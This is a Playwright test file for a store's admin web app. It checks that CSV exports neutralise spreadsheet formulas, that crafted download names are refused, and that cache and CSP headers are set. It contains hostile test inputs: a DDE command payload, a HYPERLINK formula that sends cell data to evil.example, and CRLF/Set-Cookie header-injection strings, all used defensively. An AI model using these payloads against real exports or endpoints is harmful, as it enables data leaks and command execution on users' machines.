import { expect, test } from './fixtures'

test('an account named as a formula is exported as text', async ({ managerPage: page, world }) => {
  const { cnpj } = await world.call('formulaNamedAccount')
  const response = await page.request.get('/admin/accounts.csv')
  expect(response.status()).toBe(200)
  const line = (await response.text()).split('\r\n').find((l) => l.startsWith(cnpj))!
  expect(line.split(';').slice(1, 3)).toEqual([
    `"'+cmd|' /C calc'!A0"`,
    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
  ])
})

test('a download name that is not an id is refused, never a 500 nor a header', async ({
  managerPage: page,
}) => {
  const hostile = [
    'x%22%3B%20filename%3Devil.html',
    'x%0D%0ASet-Cookie%3A%20a%3Db',
    'x%E2%80%94',
    'x%E3%80%80y',
  ]
  for (const id of hostile) {
    for (const [url, status] of [
      [`/admin/commission/payouts/${id}.csv`, 404],
      [`/admin/campaigns/funnel.csv?campaign=${id}`, 400],
    ] as const) {
      const response = await page.request.get(url)
      expect([url, response.status()]).toEqual([url, status])
      expect(response.headers()['content-disposition']).toBeUndefined()
      expect(response.headers()['set-cookie']).toBeUndefined()
    }
  }
  const all = await page.request.get('/admin/campaigns/funnel.csv')
  expect(all.headers()['content-disposition']).toBe('attachment; filename="reativa-funil.csv"')
})

test('logged-in pages and their data stay out of shared caches; built assets stay cacheable', async ({
  page,
  world,
}) => {
  const refused: string[] = []
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text())
  })
  await world.loginAs(page, await world.buyer({ twinOf: 'acc_00001' }))
  const document = await page.goto('/catalog')
  expect(document!.headers()['cache-control']).toBe('private, no-store')
  const data = await page.request.get('/catalog?_data=routes%2F_store')
  expect(data.status()).toBe(200)
  expect(data.headers()['cache-control']).toBe('private, no-store')
  const script = await page
    .locator('link[rel="modulepreload"][href^="/build/"]')
    .first()
    .getAttribute('href')
  const asset = await page.request.get(script!)
  expect(asset.headers()['cache-control']).toContain('immutable')
  // The styles come inside the page, allowed by the CSP's nonce, and apply (decision 021).
  await expect(page.locator('link[rel="stylesheet"]')).toHaveCount(0)
  await expect(page.locator('style#app-styles')).toHaveCount(1)
  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('font-weight', '700')
  await page.goto('/cart')
  await page.context().clearCookies()
  await world.loginAs(page, await world.manager())
  await page.goto('/admin/catalog/families')
  await expect(page.getByTestId('family-row').first()).toBeVisible()
  expect(refused).toEqual([])
})
